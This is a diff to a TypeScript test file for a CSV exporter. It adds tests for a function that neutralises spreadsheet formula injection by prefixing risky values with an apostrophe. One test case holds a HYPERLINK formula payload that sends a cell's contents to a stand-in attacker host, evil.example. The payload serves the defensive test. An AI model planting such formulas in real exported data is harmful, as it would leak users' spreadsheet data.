@@ -1,6 +1,6 @@
 import { parse } from 'csv-parse/sync'
 import t from 'tap'
-import { csvField, csvRecord } from '../../src/materialise/csv.ts'
+import { csvField, csvRecord, spreadsheetSafe } from '../../src/materialise/csv.ts'
 
 t.test('fields are quoted exactly when RFC 4180 needs it', async (t) => {
   const cases: Array<[string | number | boolean | null, string]> = [
@@ -33,4 +33,26 @@ t.test('records end in CRLF and read back through an independent parser', async 
   const text = rows.map(csvRecord).join('')
   t.ok(text.endsWith('\r\n'))
   t.same(parse(text, { relax_quotes: false }), rows.map((r) => r.map((v) => v)))
+})
+
+t.test('the spreadsheet variant makes text that a spreadsheet would run as a formula text (OWASP)', async (t) => {
+  const cases: Array<[string | number | boolean | null, string | number | boolean | null]> = [
+    ['=1+2', "'=1+2"],
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'],
+    ['+1 more', "'+1 more"],
+    ['-', "'-"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\tcmd', "'\tcmd"],
+    ['\rcmd', "'\rcmd"],
+    ['a=b', 'a=b'],
+    [' =1', ' =1'],
+    ['＝1', '＝1'],
+    ["'quoted", "'quoted"],
+    ['', ''],
+    [null, null],
+    [-5, -5],
+    [true, true],
+  ]
+  for (const [value, safe] of cases) t.same(spreadsheetSafe(value), safe, JSON.stringify(value))
+  t.equal(csvField(spreadsheetSafe('\rcmd')), '"\'\rcmd"', 'still quoted as RFC 4180 needs')
 })
